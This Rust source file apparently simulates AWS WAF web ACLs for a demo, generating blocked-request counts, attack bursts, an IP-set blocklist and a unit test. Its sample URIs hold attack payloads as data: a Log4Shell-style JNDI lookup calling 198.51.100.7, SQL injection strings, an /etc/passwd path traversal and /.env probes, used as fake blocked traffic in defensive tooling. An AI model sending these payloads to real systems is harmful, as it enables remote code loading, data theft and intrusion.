//! WAF web ACLs: steady background blocking with the odd attack burst, counted per minute.

use chrono::Duration;

use super::METRIC_POINTS;
use super::random::{doc_ip, hex, int, pick, scatter};
use crate::estate::{RuleKind, SampledRequest, Series, Timestamp, WafRule, WebAcl};
use crate::ops::plan::covers;
use crate::ops::step::RuleMode;
use crate::rng::Rng;

/// The first rule of every simulated ACL: it blocks the addresses of the ACL's IP set, which
/// `:block` adds to. An attacker in it is blocked there instead of by the rule that caught it.
const BLOCKLIST_RULE: &str = "blocked-addresses";

/// One rule of the ACL as the demo runs it.
struct RuleSpec {
    name: &'static str,
    /// False for the rate-based rule.
    managed: bool,
    /// Blocks a minute outside an attack, drawn once per ACL.
    blocked: (f64, f64),
    /// Requests matched by the rule group's rules that are set to count.
    counted: (f64, f64),
    /// `{id}` is replaced by a parcel number.
    uris: &'static [&'static str],
}

/// Outside attacks the ACL blocks at most ~40 a minute, under the 50 a minute the health rules
/// need before they call anything a spike, so a quiet estate never looks attacked.
const RULES: [RuleSpec; 5] = [
    RuleSpec {
        name: "AWSManagedRulesCommonRuleSet",
        managed: true,
        blocked: (4.0, 9.0),
        counted: (2.0, 8.0),
        uris: &[
            "/.env",
            "/wp-login.php",
            "/api/parcels/{id}/../../etc/passwd",
            "/cgi-bin/luci",
        ],
    },
    RuleSpec {
        name: "AWSManagedRulesKnownBadInputsRuleSet",
        managed: true,
        blocked: (1.0, 3.0),
        counted: (0.0, 0.0),
        uris: &[
            "/api/parcels/{id}?q=${jndi:ldap://198.51.100.7/a}",
            "/actuator/env",
            "/login",
        ],
    },
    RuleSpec {
        name: "AWSManagedRulesSQLiRuleSet",
        managed: true,
        blocked: (2.0, 5.0),
        counted: (0.0, 0.0),
        uris: &[
            "/track?id={id}'%20OR%201=1--",
            "/api/parcels/search?q=1%27%20UNION%20SELECT%20NULL--",
            "/login",
        ],
    },
    RuleSpec {
        name: "AWSManagedRulesAmazonIpReputationList",
        managed: true,
        blocked: (5.0, 12.0),
        counted: (0.0, 0.0),
        uris: &["/login", "/track?id={id}", "/api/parcels/{id}"],
    },
    RuleSpec {
        name: "RateLimitPerIP",
        managed: false,
        blocked: (0.0, 3.0),
        counted: (0.0, 0.0),
        uris: &["/track?id={id}", "/api/parcels/{id}/events"],
    },
];
const SQLI: usize = 2;
const RATE: usize = 4;
const RATE_LIMIT: u64 = 2000;
const COUNTRIES: [&str; 10] = ["US", "CN", "RU", "BR", "NL", "DE", "VN", "IN", "RO", "GB"];
const KEPT_SAMPLES: usize = 10;
/// Minutes between the end of one attack and the start of the next: ~18 on average.
const QUIET_MINUTES: (u64, u64) = (8, 28);
/// The attack on screen when the demo starts; it is over well before the start.
const PAST_ATTACK_MINUTES: (u64, u64) = (20, 50);
/// How much of an attack's extra blocking lands on its rule; the rest spreads over the others.
const ATTACK_SHARE: f64 = 0.85;

#[derive(Debug, Clone)]
struct Attack {
    rule: usize,
    /// The ACL blocks this many times its usual rate.
    factor: f64,
    minutes_left: u32,
    client_ip: String,
    country: &'static str,
}

#[derive(Debug, Clone)]
struct SimAcl {
    acl: WebAcl,
    blocked_rate: Vec<f64>,
    counted_rate: Vec<f64>,
    /// Allowed requests a minute at the daily average.
    allowed_rate: f64,
    attack: Option<Attack>,
    next_attack: Timestamp,
    /// The IP set's ARN and what it holds.
    ip_set: String,
    blocklist: Vec<String>,
    /// Rules set to count what they match instead of blocking it.
    counting: Vec<String>,
}

#[derive(Debug, Clone)]
pub(super) struct SimWaf {
    acls: Vec<SimAcl>,
    start: Timestamp,
    rng: Rng,
}

impl SimWaf {
    /// `ip_set`: the name of the IP set each ACL's blocking rule references (`None`: the ACL's
    /// name with `-blocked`).
    pub(super) fn new(
        names: &[String],
        ip_set: Option<&str>,
        region: &str,
        start: Timestamp,
        mut rng: Rng,
    ) -> Self {
        let acls = names
            .iter()
            .map(|name| {
                let id = format!(
                    "{}-{}-{}-{}-{}",
                    hex(&mut rng, 8),
                    hex(&mut rng, 4),
                    hex(&mut rng, 4),
                    hex(&mut rng, 4),
                    hex(&mut rng, 12)
                );
                let series = || Series::with_capacity(METRIC_POINTS);
                let set = ip_set.map_or_else(|| format!("{name}-blocked"), str::to_string);
                let arn = format!("arn:aws:wafv2:{region}:123456789012:regional/ipset/{set}/{id}");
                let blocklist_rule = WafRule {
                    name: BLOCKLIST_RULE.into(),
                    priority: 0,
                    kind: RuleKind::IpSet {
                        arn: arn.clone(),
                        blocks: true,
                    },
                    blocked: series(),
                    allowed: series(),
                    counted: series(),
                };
                let rules = std::iter::once(blocklist_rule)
                    .chain(RULES.iter().zip(1..).map(|(spec, priority)| WafRule {
                        name: spec.name.into(),
                        priority,
                        kind: if spec.managed {
                            RuleKind::ManagedRuleGroup {
                                vendor: "AWS".into(),
                                name: spec.name.into(),
                            }
                        } else {
                            RuleKind::RateBased { limit: RATE_LIMIT }
                        },
                        blocked: series(),
                        allowed: series(),
                        counted: series(),
                    }))
                    .collect();
                let blocked_rate = RULES
                    .iter()
                    .map(|r| rng.range(r.blocked.0, r.blocked.1))
                    .collect();
                let counted_rate = RULES
                    .iter()
                    .map(|r| rng.range(r.counted.0, r.counted.1))
                    .collect();
                let past = int(&mut rng, PAST_ATTACK_MINUTES.0, PAST_ATTACK_MINUTES.1);
                SimAcl {
                    acl: WebAcl {
                        name: name.clone(),
                        id,
                        rules,
                        blocked: series(),
                        allowed: series(),
                        counted: series(),
                        sampled: Some(vec![]),
                    },
                    blocked_rate,
                    counted_rate,
                    allowed_rate: rng.range(600.0, 1500.0),
                    attack: None,
                    next_attack: start - Duration::minutes(past as i64),
                    ip_set: arn,
                    blocklist: Vec::new(),
                    counting: Vec::new(),
                }
            })
            .collect();
        Self { acls, start, rng }
    }

    pub(super) fn snapshot(&self) -> Vec<WebAcl> {
        self.acls.iter().map(|a| a.acl.clone()).collect()
    }

    /// The ACL whose blocking rule references `ip_set`, by its index.
    fn acl_of(&self, ip_set: &str) -> Result<usize, String> {
        self.acls
            .iter()
            .position(|a| a.ip_set == ip_set)
            .ok_or_else(|| format!("no DEMO web ACL blocks with IP set {ip_set}"))
    }

    /// UpdateIPSet: `cidr` into (`listed`) or out of the set.
    pub(super) fn update(
        &mut self,
        ip_set: &str,
        cidr: &str,
        listed: bool,
    ) -> Result<String, String> {
        let i = self.acl_of(ip_set)?;
        let acl = &mut self.acls[i];
        let there = acl.blocklist.iter().any(|c| c == cidr);
        match (listed, there) {
            (true, false) => acl.blocklist.push(cidr.to_string()),
            (false, true) => acl.blocklist.retain(|c| c != cidr),
            _ => {
                return Err(format!(
                    "{cidr} is {} the IP set already",
                    if listed { "in" } else { "not in" }
                ));
            }
        }
        Ok(format!(
            "the IP set holds {} addresses",
            acl.blocklist.len()
        ))
    }

    /// Whether `cidr` is in the set.
    pub(super) fn listed(&self, ip_set: &str, cidr: &str) -> Result<bool, String> {
        let acl = &self.acls[self.acl_of(ip_set)?];
        Ok(acl.blocklist.iter().any(|c| c == cidr))
    }

    /// The ACL named `acl` and its rule `rule`, by index.
    fn rule_of(&self, acl: &str, rule: &str) -> Result<(usize, String), String> {
        let i = self
            .acls
            .iter()
            .position(|a| a.acl.name == acl)
            .ok_or_else(|| format!("no DEMO web ACL {acl}"))?;
        let r = self.acls[i].acl.rules.iter().find(|r| r.name == rule);
        let r = r.ok_or_else(|| format!("web ACL {acl} has no rule {rule}"))?;
        Ok((i, r.name.clone()))
    }

    /// UpdateWebACL: rule `rule` counts or blocks what it matches.
    pub(super) fn set_mode(
        &mut self,
        acl: &str,
        rule: &str,
        to: RuleMode,
    ) -> Result<String, String> {
        let (i, rule) = self.rule_of(acl, rule)?;
        let counting = &mut self.acls[i].counting;
        counting.retain(|r| *r != rule);
        if to == RuleMode::Count {
            counting.push(rule.clone());
        }
        Ok(format!("rule {rule} of {acl} does {}", to.as_str()))
    }

    /// What rule `rule` does with its matches.
    pub(super) fn mode(&self, acl: &str, rule: &str) -> Result<RuleMode, String> {
        let (i, rule) = self.rule_of(acl, rule)?;
        Ok(if self.acls[i].counting.contains(&rule) {
            RuleMode::Count
        } else {
            RuleMode::Block
        })
    }

    pub(super) fn minute(&mut self, at: Timestamp) {
        for acl in &mut self.acls {
            acl.minute(at, self.start, &mut self.rng);
        }
    }
}

impl SimAcl {
    fn minute(&mut self, at: Timestamp, start: Timestamp, rng: &mut Rng) {
        if self.attack.is_none() && at >= self.next_attack {
            self.attack = Some(Attack {
                rule: if rng.chance(0.6) { RATE } else { SQLI },
                factor: rng.range(5.0, 15.0),
                minutes_left: int(rng, 2, 5) as u32,
                client_ip: doc_ip(rng),
                country: pick(rng, &COUNTRIES),
            });
        }
        let (blocked, by_set) = self.blocked_means();
        let (mut total_blocked, mut total_counted) = (0.0, 0.0);
        let mut counts = Vec::with_capacity(RULES.len());
        for (i, rule) in self.acl.rules.iter_mut().enumerate() {
            // The IP-set rule draws nothing while it blocks nothing, so the course of the
            // demo is the same until someone blocks an attacker.
            let (b, c) = match i.checked_sub(1) {
                None if by_set > 0.0 => (scatter(rng, by_set), 0.0),
                None => (0.0, 0.0),
                Some(i) => (scatter(rng, blocked[i]), scatter(rng, self.counted_rate[i])),
            };
            // A rule set to count lets what it matches through, counted.
            let (b, c) = if self.counting.contains(&rule.name) {
                (0.0, c + b)
            } else {
                (b, c)
            };
            rule.blocked.push(at, b);
            rule.counted.push(at, c);
            // Managed groups and the rate rule only ever block or count; allowing is the
            // ACL's default action, so it shows in the totals alone.
            rule.allowed.push(at, 0.0);
            total_blocked += b;
            total_counted += c;
            if i > 0 {
                counts.push(b);
            }
        }
        self.acl.blocked.push(at, total_blocked);
        self.acl.counted.push(at, total_counted);
        self.acl
            .allowed
            .push(at, scatter(rng, self.allowed_rate * daily_shape(at)));
        self.sample(at, &counts, by_set, rng);

        if let Some(attack) = &mut self.attack {
            attack.minutes_left -= 1;
            if attack.minutes_left == 0 {
                self.attack = None;
                let mut next =
                    at + Duration::minutes(int(rng, QUIET_MINUTES.0, QUIET_MINUTES.1) as i64);
                // The estate must start calm: an attack that would be under way at the start
                // moves after it.
                if next <= start {
                    next = start + (next - at);
                }
                self.next_attack = next;
            }
        }
    }

    /// Whether the attacker is in the IP set, and so blocked by its rule.
    fn attacker_listed(&self) -> bool {
        self.attack
            .as_ref()
            .is_some_and(|a| self.blocklist.iter().any(|c| covers(c, &a.client_ip)))
    }

    /// This minute's expected blocks per rule of `RULES`, attack included, and the IP-set
    /// rule's: the attack's share of its rule moves there once the attacker is in the set.
    fn blocked_means(&self) -> (Vec<f64>, f64) {
        let Some(attack) = &self.attack else {
            return (self.blocked_rate.clone(), 0.0);
        };
        let listed = self.attacker_listed();
        let total: f64 = self.blocked_rate.iter().sum();
        let others = total - self.blocked_rate[attack.rule];
        let extra = total * (attack.factor - 1.0);
        let means = self
            .blocked_rate
            .iter()
            .enumerate()
            .map(|(i, &rate)| match i == attack.rule {
                true if listed => rate,
                true => rate + extra * ATTACK_SHARE,
                false => rate + extra * (1.0 - ATTACK_SHARE) * rate / others,
            })
            .collect();
        (means, if listed { extra * ATTACK_SHARE } else { 0.0 })
    }

    /// Adds this minute's sampled blocked requests, newest first; an attack is sampled more.
    fn sample(&mut self, at: Timestamp, blocked: &[f64], by_set: f64, rng: &mut Rng) {
        let listed = self.attacker_listed();
        let weights: Vec<f64> = blocked.iter().copied().chain([by_set]).collect();
        let total: f64 = weights.iter().sum();
        let n = match (&self.attack, total > 0.0) {
            (_, false) => 0,
            (Some(_), true) => 3,
            (None, true) => u64::from(rng.chance(0.6)),
        };
        let samples = self.acl.sampled.get_or_insert_with(Vec::new);
        for _ in 0..n {
            let drawn = weighted(rng, &weights, total);
            // The IP-set rule blocks the attacker, with its attack's requests.
            let by_set = drawn == RULES.len() && by_set > 0.0;
            let rule = match &self.attack {
                Some(a) if by_set => a.rule,
                _ => drawn.min(RULES.len() - 1),
            };
            let spec = &RULES[rule];
            let (client_ip, country) = match &self.attack {
                Some(a) if by_set || (a.rule == rule && !listed) => {
                    (a.client_ip.clone(), a.country)
                }
                _ => (doc_ip(rng), pick(rng, &COUNTRIES)),
            };
            let parcel = format!("QP{:09}GB", int(rng, 0, 1_000_000_000));
            let uri = pick(rng, spec.uris).replace("{id}", &parcel);
            let method = if uri == "/login" { "POST" } else { "GET" };
            samples.insert(
                0,
                SampledRequest {
                    at: at - Duration::seconds(int(rng, 0, 60) as i64),
                    client_ip,
                    country: country.into(),
                    method: method.into(),
                    uri,
                    rule: if by_set { BLOCKLIST_RULE } else { spec.name }.into(),
                    action: "BLOCK".into(),
                },
            );
        }
        samples.sort_by_key(|s| std::cmp::Reverse(s.at));
        samples.truncate(KEPT_SAMPLES);
    }
}

/// An index drawn with probability proportional to its weight.
fn weighted(rng: &mut Rng, weights: &[f64], total: f64) -> usize {
    let mut left = rng.range(0.0, total);
    for (i, w) in weights.iter().enumerate() {
        if left < *w {
            return i;
        }
        left -= w;
    }
    weights.len() - 1
}

/// Parcel tracking follows the (European) day: quiet at night, busiest mid-afternoon UTC.
/// Busier in the afternoon, quieter at night: requests, and the attacks among them.
pub(super) fn daily_shape(at: Timestamp) -> f64 {
    let hour = at.timestamp().rem_euclid(86_400) as f64 / 3600.0;
    1.0 + 0.5 * ((hour - 8.0) / 24.0 * std::f64::consts::TAU).sin()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn start() -> Timestamp {
        chrono::DateTime::from_timestamp(1_772_366_400, 0).unwrap()
    }

    /// The newest sampled requests of `ip`, by the rule that blocked them.
    fn rules_of(waf: &SimWaf, ip: &str) -> Vec<String> {
        let sampled = waf.acls[0].acl.sampled.as_ref().unwrap();
        sampled
            .iter()
            .filter(|s| s.client_ip == ip)
            .map(|s| s.rule.clone())
            .collect()
    }

    #[test]
    fn an_attacker_put_in_the_ip_set_is_blocked_by_its_rule_and_taken_out_again() {
        let mut waf = SimWaf::new(&["qp-waf".into()], None, "eu-west-1", start(), Rng::new(7));
        let arn = waf.acls[0].ip_set.clone();
        assert!(
            arn.starts_with("arn:aws:wafv2:eu-west-1:123456789012:regional/ipset/qp-waf-blocked/"),
            "{arn}"
        );
        let rules = &waf.acls[0].acl.rules;
        assert_eq!(
            (rules[0].name.as_str(), rules[0].priority),
            (BLOCKLIST_RULE, 0)
        );
        waf.acls[0].attack = Some(Attack {
            rule: RATE,
            factor: 10.0,
            minutes_left: 60,
            client_ip: "203.0.113.7".into(),
            country: "NL",
        });
        let minutes = |waf: &mut SimWaf, from: i64| {
            for m in from..from + 5 {
                waf.minute(start() + Duration::minutes(m));
            }
        };
        minutes(&mut waf, 1);
        let by_set = |waf: &SimWaf| waf.acls[0].acl.rules[0].blocked.last().unwrap();
        assert_eq!(by_set(&waf), 0.0, "an empty set blocks nothing");
        assert!(
            rules_of(&waf, "203.0.113.7")
                .iter()
                .all(|r| r == "RateLimitPerIP"),
            "{:?}",
            rules_of(&waf, "203.0.113.7")
        );

        assert_eq!(
            waf.update(&arn, "203.0.113.0/24", true).unwrap(),
            "the IP set holds 1 addresses"
        );
        assert!(waf.listed(&arn, "203.0.113.0/24").unwrap());
        assert!(
            waf.update(&arn, "203.0.113.0/24", true).is_err(),
            "listed already"
        );
        minutes(&mut waf, 6);
        assert!(by_set(&waf) > 0.0, "the set's rule blocks the attacker now");
        let newest = rules_of(&waf, "203.0.113.7");
        assert!(
            !newest.is_empty() && newest.iter().all(|r| r == BLOCKLIST_RULE),
            "{newest:?}"
        );

        waf.update(&arn, "203.0.113.0/24", false).unwrap();
        assert!(!waf.listed(&arn, "203.0.113.0/24").unwrap());
        minutes(&mut waf, 11);
        assert_eq!(
            by_set(&waf),
            0.0,
            "out of the set, the rate rule catches it again"
        );
    }
}
